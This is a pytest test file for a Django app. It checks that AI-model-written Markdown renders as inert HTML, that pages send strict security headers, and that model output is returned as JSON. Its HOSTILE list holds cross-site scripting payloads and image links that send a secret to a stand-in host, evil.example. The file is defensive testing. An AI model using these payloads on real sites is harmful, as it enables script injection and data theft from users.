"""S8: what models write is shown as text: Markdown without HTML and images, JSON that is no page, files that are saved."""

import re
from typing import Any

import pytest
from django.test import Client

from config.policy import POLICY
from orchestrator.models import Step
from tests import runs
from tests.api import owner
from tests.architecture.sources import ROOT, committed
from ui.markdown import LARGEST, render_markdown

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/?secret=42)",
    '![x][1]\n\n[1]: https://evil.example/p.png "t"',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "[x](vbscript:x)",
    "<svg/onload=alert(1)>",
    "<a href='https://evil.example' onclick='x()'>a</a>",
    "<iframe src=https://evil.example></iframe>",
    "```html\n<script>alert(1)</script>\n```",
    "`<b onmouseover=x>`",
    "<style>@import 'https://evil.example'</style>",
    "<form action=https://evil.example><input></form>",
    "a\x00b<scr\x00ipt>",
    "| a | b |\n|---|---|\n| <img src=x> | ![p](//evil.example/p) |",
    "<!-- --><base href=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
ALLOWED = re.compile(
    r"</?(?:blockquote|code|del|em|h[1-6]|li|p|pre|s|strong|table|tbody|td|th|thead|tr|ul)>|<(?:br|hr)>|</?ol(?: start=\"\d+\")?>"
    r"|<a(?: href=\"(?:https?://|mailto:)[^\"<>]*\"| title=\"[^\"<>]*\"| rel=\"noopener noreferrer nofollow\")+>|</a>"
)


def tags(html: str) -> list[str]:
    """What of the HTML is a tag that is not allowed."""
    return re.findall(r"<[^>]*>?", ALLOWED.sub("", html))


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_of_a_model_becomes_no_active_html(text: str) -> None:
    html = render_markdown(text)
    assert tags(html) == []
    assert "<img" not in html
    assert not re.search(r"href=\"(?!https?://|mailto:)", html)


def test_markdown_keeps_what_people_need() -> None:
    link, table = "[our page](https://baton.example/a?b=1&c=2)", "| a |\n|---|\n| ~~b~~ |"
    text = f"# Reply\n\n**Dear** Ada, see {link}.\n\n1. one\n2. two\n\n{table}"
    html = render_markdown(text)
    assert '<a href="https://baton.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">our page</a>' in html
    assert all(
        part in html for part in ("<h1>Reply</h1>", "<strong>Dear</strong>", "<li>one</li>", "<td><s>b</s></td>")
    )


def test_a_link_whose_text_poses_as_an_address_stays_a_link_to_where_it_leads() -> None:
    html = render_markdown("[https://good.example](https://other.example)")
    assert 'href="https://other.example"' in html


def test_a_huge_text_is_cut_and_deep_nesting_ends() -> None:
    assert len(render_markdown("a" * (3 * LARGEST))) <= LARGEST + 20
    assert render_markdown("> " * 5_000 + "x")
    assert render_markdown("[" * 20_000)


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/", "/accounts/login/", "/nowhere", "/api/v1/docs", "/api/v1/runs", "/healthz"])
def test_every_answer_has_the_strict_policy(path: str) -> None:
    answer = Client().get(path)
    assert answer["Content-Security-Policy"] == POLICY
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["X-Frame-Options"] == "DENY"
    assert "unsafe" not in POLICY


def test_no_template_has_script_style_or_handler_in_it() -> None:
    inline = re.compile(
        r"<script(?![^>]*(\bsrc=|type=.application/json))|<style|\sstyle=|\son\w+=|javascript:", re.IGNORECASE
    )
    pages = [path for path in committed("*.html") if path.is_relative_to(ROOT / "templates")]
    assert pages
    assert [path.name for path in pages if inline.search(path.read_text())] == []


def test_no_template_says_that_something_is_safe() -> None:
    unsafe = re.compile(r"\|\s*safe\b|autoescape off|mark_safe")
    sources = [path for kind in ("*.html", "*.py") for path in committed(kind) if "tests" not in path.parts]
    assert [path.name for path in sources if unsafe.search(path.read_text())] == []


@pytest.mark.django_db
def test_what_a_model_wrote_leaves_the_api_as_json_and_nothing_else() -> None:
    people, api = owner()
    said = "<script>alert(1)</script>"
    document: Any = {
        "nodes": {"a": {"type": "transform", "config": {"template": said}}},
        "edges": [],
        "output": "{{ a }}",
    }
    run = api.post("runs", {"version": runs.a_version(document, team=people.team).pk})["id"]
    runs.work(run)
    assert Step.objects.of(people.team).filter(run=run, path="a", status="succeeded").exists()
    shown = api.get(f"runs/{run}")
    assert (shown["output"], api.answer["Content-Type"]) == (said, "application/json; charset=utf-8")
    wrong = api.get("runs", workflow=said, status=said)
    assert (wrong["code"], api.answer["Content-Type"]) == ("wrong_request", "application/problem+json")
